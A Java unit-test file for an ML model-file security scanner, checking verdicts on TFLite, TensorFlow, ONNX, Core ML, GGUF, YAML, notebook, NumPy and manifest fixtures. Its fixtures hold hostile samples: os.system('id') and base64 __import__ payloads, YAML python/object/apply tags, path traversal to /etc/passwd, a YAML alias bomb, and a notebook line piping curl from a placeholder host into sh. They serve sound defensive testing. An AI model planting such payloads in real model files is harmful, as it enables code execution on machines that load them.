package dev.bartizan.artifacts;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bartizan.core.Severity;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Model formats other than pickle, Keras and ONNX of {@link FormatScanTest}, with fixtures made
/// here.
class ModelFormatsScanTest {
    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] joined(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] varint(long value) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        long rest = value;
        while (rest >= 128) {
            out.write((int) (rest & 0x7f) | 0x80);
            rest >>>= 7;
        }
        out.write((int) rest);
        return out.toByteArray();
    }

    static byte[] field(int number, byte[] content) {
        return joined(varint((long) number << 3 | 2), varint(content.length), content);
    }

    static byte[] field(int number, String text) {
        return field(number, utf8(text));
    }

    static byte[] field(int number, long value) {
        return joined(varint((long) number << 3), varint(value));
    }

    /// A TensorFlow Lite model of one operator with one tensor of `dataBytes` bytes.
    static byte[] tflite(String operator, int shape, int dataBytes, int tensorIndex) {
        return tflite(operator, shape, dataBytes, tensorIndex, 0);
    }

    /// @param offset where the data lie in the file, 0 when they lie in the model
    private static byte[] tflite(
            String operator, int shape, int dataBytes, int tensorIndex, long offset) {
        FlatBuilder out = new FlatBuilder();
        int data = out.bytes(new byte[dataBytes]);
        int buffer =
                offset == 0
                        ? out.table(out.reference(0, data))
                        : out.table(out.number(1, offset, 8), out.number(2, dataBytes, 8));
        int name = out.bytes(utf8(operator));
        int code = out.table(out.number(0, 32, 1), out.reference(1, name), out.number(3, 32, 4));
        int axes = out.ints(shape);
        int tensor = out.table(out.reference(0, axes), out.number(2, 0, 4));
        int inputs = out.ints(tensorIndex);
        int call = out.table(out.reference(1, inputs));
        int tensors = out.references(tensor);
        int calls = out.references(call);
        int graph = out.table(out.reference(0, tensors), out.reference(3, calls));
        int codes = out.references(code);
        int graphs = out.references(graph);
        int buffers = out.references(buffer);
        int root =
                out.table(
                        out.number(0, 3, 4),
                        out.reference(1, codes),
                        out.reference(2, graphs),
                        out.reference(4, buffers));
        return out.done(root, "TFL3");
    }

    @ParameterizedTest
    @ValueSource(longs = {1L << 40, Long.MAX_VALUE, Long.MIN_VALUE, -1, -8})
    void aBufferBeyondTheFileIsBroken(long offset) {
        assertThat(Scans.verdict(tflite("Mfcc", 4, 16, 0, offset))).isNotEqualTo(Verdict.CLEAN);
    }

    @Test
    void operatorsOfTensorFlowLiteAreJudged() {
        assertThat(Scans.verdict(tflite("TFLite_Detection_PostProcess", 4, 16, 0)))
                .isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(tflite("EvilOp", 4, 16, 0))).isEqualTo(Verdict.SUSPICIOUS);
        assertThat(Scans.verdict(tflite("FlexReadFile", 4, 16, 0))).isEqualTo(Verdict.MALICIOUS);
        assertThat(Scans.verdict(tflite("FlexErf", 4, 16, 0))).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void tensorsOfTensorFlowLiteMustFit() {
        assertThat(Scans.verdict(tflite("Mfcc", 4, 12, 0))).isEqualTo(Verdict.UNREADABLE);
        assertThat(Scans.verdict(tflite("Mfcc", -4, 16, 0))).isEqualTo(Verdict.UNREADABLE);
        assertThat(Scans.verdict(tflite("Mfcc", 4, 16, 7))).isEqualTo(Verdict.UNREADABLE);
        byte[] cut = java.util.Arrays.copyOf(tflite("Mfcc", 4, 16, 0), 90);
        assertThat(Scans.verdict(cut)).isNotEqualTo(Verdict.CLEAN);
    }

    private static byte[] graph(byte[] node) {
        byte[] const0 = joined(field(1, "c"), field(2, "Const"));
        return joined(field(1, const0), field(1, node));
    }

    @Test
    void graphsOfTensorFlowAreJudgedByTheirOperatorsTextsAndAssets() {
        byte[] node = joined(field(1, "n"), field(2, "Identity"));
        assertThat(Scans.verdict(graph(node))).isEqualTo(Verdict.CLEAN);
        byte[] attribute = joined(field(1, "cmd"), field(2, field(2, "os.system('id')")));
        assertThat(Scans.verdict(graph(joined(node, field(5, attribute)))))
                .isEqualTo(Verdict.MALICIOUS);
        byte[] library =
                field(
                        2,
                        field(
                                1,
                                joined(
                                        field(1, field(1, "f")),
                                        field(3, joined(field(1, "w"), field(2, "WriteFile"))))));
        assertThat(Scans.verdict(joined(graph(node), library))).isEqualTo(Verdict.MALICIOUS);
        byte[] meta = joined(field(2, graph(node)), field(6, field(2, "../../etc/passwd")));
        byte[] saved = joined(field(1, 1L), field(2, meta));
        assertThat(Scans.verdict(saved)).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void layersKeptInMetadataOfASavedModelAreRebuilt() {
        String layer =
                "{\"class_name\":\"Lambda\",\"config\":{\"function\":{\"class_name\":\"__tuple__\",\"items\":[\"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=\",null,null]}}}";
        byte[] bytes = field(1, joined(field(2, 1L), field(3, "root"), field(5, layer)));
        FileReport report = Scans.scan("keras_metadata.pb", bytes);
        assertThat(report.formats()).contains("keras-metadata");
        assertThat(report.verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void onnxTextsTensorsAndContextsAreLookedAt() {
        byte[] opset = field(8, joined(field(1, ""), field(2, 17L)));
        byte[] relu = field(1, field(4, "Relu"));
        byte[] head = field(1, 8L);
        byte[] plain = joined(head, field(7, relu), opset);
        assertThat(Scans.verdict(plain)).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(joined(opset, field(7, relu), head))).isEqualTo(Verdict.CLEAN);
        byte[] metadata = field(14, joined(field(1, "k"), field(2, "os.system('id')")));
        assertThat(Scans.verdict(joined(plain, metadata))).isEqualTo(Verdict.SUSPICIOUS);
        byte[] tensor = joined(field(1, 3L), field(2, 1L), field(8, "W"), field(9, new byte[8]));
        assertThat(Scans.verdict(joined(head, field(7, joined(relu, field(5, tensor))), opset)))
                .isEqualTo(Verdict.UNREADABLE);
        byte[] path = joined(field(1, "ep_cache_context"), field(4, "../../../evil.bin"));
        byte[] mode = joined(field(1, "embed_mode"), field(3, 0L));
        byte[] context =
                joined(
                        field(4, "EPContext"),
                        field(7, "com.microsoft"),
                        field(5, path),
                        field(5, mode));
        assertThat(Scans.verdict(joined(head, field(7, field(1, context)), opset)))
                .isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void customLayersAndLinkedModelsOfCoreMlAreJudged() {
        byte[] head = joined(field(1, 4L), field(2, field(100, field(1, "a model"))));
        byte[] layer = joined(field(1, "l"), field(100, new byte[0]));
        assertThat(Scans.verdict(joined(head, field(500, field(1, layer)))))
                .isEqualTo(Verdict.CLEAN);
        byte[] custom = joined(field(1, "l"), field(500, field(10, "MyLayer")));
        assertThat(Scans.verdict(joined(head, field(500, field(1, custom)))))
                .isEqualTo(Verdict.SUSPICIOUS);
        byte[] inPipeline = field(202, field(1, joined(head, field(500, field(1, custom)))));
        assertThat(Scans.verdict(joined(head, inPipeline))).isEqualTo(Verdict.SUSPICIOUS);
        byte[] file = field(1, field(1, field(1, "../../other.mlmodelc")));
        assertThat(Scans.verdict(joined(head, field(556, file)))).isEqualTo(Verdict.MALICIOUS);
    }

    static byte[] gguf(boolean isBigEndian, int version, long tensorOffset, int dataBytes) {
        ByteBuffer out =
                ByteBuffer.allocate(4096)
                        .order(isBigEndian ? ByteOrder.BIG_ENDIAN : ByteOrder.LITTLE_ENDIAN);
        out.put(utf8("GGUF")).putInt(version);
        count(out, version, 1);
        count(out, version, 1);
        text(out, version, "general.tags");
        out.putInt(9).putInt(8);
        count(out, version, 1);
        text(out, version, "a tag");
        text(out, version, "w");
        out.putInt(1);
        count(out, version, 4);
        out.putInt(0).putLong(tensorOffset);
        int start = (out.position() + 31) / 32 * 32;
        return java.util.Arrays.copyOf(out.array(), start + dataBytes);
    }

    private static void count(ByteBuffer out, int version, int value) {
        if (version == 1) {
            out.putInt(value);
        } else {
            out.putLong(value);
        }
    }

    private static void text(ByteBuffer out, int version, String text) {
        count(out, version, text.length());
        out.put(utf8(text));
    }

    @Test
    void everyVersionAndByteOrderOfGgufIsRead() {
        assertThat(Scans.verdict(gguf(false, 1, 0, 16))).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(gguf(false, 2, 0, 16))).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(gguf(false, 3, 0, 16))).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(gguf(true, 3, 0, 16))).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(gguf(false, 4, 0, 16))).isEqualTo(Verdict.UNREADABLE);
    }

    @Test
    void tensorsOfGgufMustFit() {
        assertThat(Scans.verdict(gguf(false, 3, 0, 12))).isEqualTo(Verdict.UNREADABLE);
        assertThat(Scans.verdict(gguf(false, 3, 3, 64))).isEqualTo(Verdict.UNREADABLE);
        assertThat(Scans.verdict(gguf(false, 3, 1L << 62, 64))).isEqualTo(Verdict.UNREADABLE);
        byte[] behind = joined(gguf(false, 3, 0, 32), Pickles.calling("os", "system"));
        assertThat(Scans.verdict(behind)).isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a:\n  _target_:\n    os.system\n",
                "a: {\"_target_\": \"os\\u002esystem\"}\n",
                "? _target_\n: os.system\n",
                "a: !!python/object/apply:os.system [id]\n",
                "%TAG !x! tag:yaml.org,2002:python/\n---\na: !x!object/apply:os.system [id]\n",
                "a: !!javax.script.ScriptEngineManager [x]\n",
                "a: !<tag:yaml.org,2002:python/name:os.system> ''\n"
            })
    void yamlThatNamesCodeIsMaliciousHoweverItIsWritten(String yaml) {
        assertThat(Scans.scan("model_config.yaml", utf8(yaml)).verdict())
                .isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void aliasesThatExpandWithoutMeasureAreReported() {
        StringBuilder yaml = new StringBuilder("a: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 9; i++) {
            String alias = "*a" + (i - 1);
            yaml.append("b").append(i).append(": &a").append(i).append(" [");
            yaml.append(String.join(", ", java.util.Collections.nCopies(10, alias))).append("]\n");
        }
        assertThat(Scans.scan("a.yaml", utf8(yaml.toString())).findings())
                .extracting("rule")
                .containsExactly("yaml-bomb");
    }

    @Test
    void notebooksAreJudgedByTheirCells() {
        assertThat(notebook("import os\\nos.system('id')")).isEqualTo(Severity.MEDIUM);
        assertThat(notebook("!curl http://x/y | sh")).isEqualTo(Severity.HIGH);
        assertThat(notebook("import requests\\nrequests.get(url)\\nmodel.eval()"))
                .isLessThan(Severity.MEDIUM);
        assertThat(notebook("!pip install torch\\nprint('os.system(1)')"))
                .isLessThan(Severity.MEDIUM);
    }

    private static Severity notebook(String source) {
        String json =
                "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":[\""
                        + source
                        + "\"]}]}";
        return Scans.scan("a.ipynb", utf8(json)).worst().orElse(Severity.INFO);
    }

    @Test
    void anArrayHeaderIsALiteralOfThreeKeys() {
        byte[] program =
                npy(
                        "{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,)}");
        assertThat(Scans.verdict(program)).isEqualTo(Verdict.MALICIOUS);
        assertThat(Scans.verdict(npy("{'descr': '<f8', 'shape': (0,)}")))
                .isEqualTo(Verdict.UNREADABLE);
    }

    private static byte[] npy(String header) {
        byte[] text = utf8(header + "\n");
        ByteBuffer out = ByteBuffer.allocate(10 + text.length).order(ByteOrder.LITTLE_ENDIAN);
        return out.put((byte) 0x93)
                .put(utf8("NUMPY"))
                .put((byte) 1)
                .put((byte) 0)
                .putShort((short) text.length)
                .put(text)
                .array();
    }

    @Test
    void bytesInMessagePackThatAreAPickleAreLookedInto() {
        byte[] pickle = Pickles.calling("os", "system");
        byte[] document =
                joined(
                        new byte[] {
                            (byte) 0x81, (byte) 0xa1, 'w', (byte) 0xc4, (byte) pickle.length
                        },
                        pickle);
        assertThat(Scans.verdict(document)).isEqualTo(Verdict.MALICIOUS);
        byte[] array = {
            (byte) 0x93,
            (byte) 0x91,
            2,
            (byte) 0xa7,
            'f',
            'l',
            'o',
            'a',
            't',
            '3',
            '2',
            (byte) 0xc4,
            8,
            0,
            0,
            0,
            0,
            0,
            0,
            0,
            0
        };
        byte[] flax =
                joined(
                        new byte[] {
                            (byte) 0x81, (byte) 0xa1, 'w', (byte) 0xc7, (byte) array.length, 1
                        },
                        array);
        assertThat(Scans.verdict(flax)).isEqualTo(Verdict.CLEAN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"os.system\"}]",
                "{\"_class_name\":\"StableDiffusionPipeline\",\"unet\":[\"os\",\"system\"]}",
                "{\"auto_mapping\":{\"parent_library\":\"subprocess\",\"base_model_class\":\"Popen\"}}",
                "{\"model\":{\"modelName\":\"m\",\"handler\":\"../../evil.py\"}}",
                "{\"itemInfoEntries\":{\"a\":{\"path\":\"../../../etc/passwd\"}}}"
            })
    void manifestsThatNameCodeOrLeaveTheFolderAreMalicious(String json) {
        assertThat(Scans.scan("a.json", utf8(json)).verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[{\"idx\":0,\"name\":\"0\",\"path\":\"\",\"type\":\"sentence_transformers.models.Transformer\"}]",
                "{\"_class_name\":\"StableDiffusionPipeline\",\"unet\":[\"diffusers\",\"UNet2DConditionModel\"],\"safety_checker\":[null,null]}",
                "{\"auto_mapping\":null,\"peft_type\":\"LORA\"}",
                "{\"model\":{\"modelName\":\"m\",\"handler\":\"image_classifier\",\"serializedFile\":\"m.pt\"}}",
                "{\"itemInfoEntries\":{\"a\":{\"path\":\"com.apple.CoreML/model.mlmodel\"}}}"
            })
    void ordinaryManifestsAreClean(String json) {
        assertThat(Scans.scan("a.json", utf8(json)).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void graphsInTextFormAreJudgedByTheirOperators() {
        String graph = "node {\n  name: \"a\"\n  op: \"Relu\"\n}\n";
        assertThat(Scans.scan("g.pbtxt", utf8(graph)).verdict()).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.scan("g.pbtxt", utf8(graph.replace("Relu", "PyFunc"))).verdict())
                .isEqualTo(Verdict.MALICIOUS);
    }

    /// Models of every format of this class, for changing at random.
    static List<byte[]> fixtures() {
        List<byte[]> all = new ArrayList<>();
        all.add(tflite("FlexReadFile", 4, 16, 0));
        all.add(gguf(false, 3, 0, 32));
        all.add(gguf(true, 1, 0, 32));
        all.add(graph(joined(field(1, "n"), field(2, "ReadFile"))));
        all.add(
                joined(
                        field(1, 4L),
                        field(2, new byte[0]),
                        field(556, field(1, field(1, field(1, "../x"))))));
        all.add(utf8("a: &x [1, 2]\nb: *x\n_target_: os.system\n"));
        all.add(Hdf5ScanTest.model("{\"class_name\":\"Dense\"}"));
        return all;
    }

    @Test
    void changedModelsAreAnswered() {
        Random random = new Random(4711);
        List<byte[]> fixtures = fixtures();
        for (int i = 0; i < 1500; i++) {
            byte[] bytes = fixtures.get(i % fixtures.size()).clone();
            for (int k = 0; k < 1 + random.nextInt(6); k++) {
                int at = random.nextInt(Math.min(bytes.length, 700));
                bytes[at] = (byte) (random.nextBoolean() ? random.nextInt(256) : 0xff);
            }
            FileReport report = Scans.scan("artifact", bytes);
            assertThat(report.coveredBytes()).isBetween(0L, (long) bytes.length);
        }
    }
}
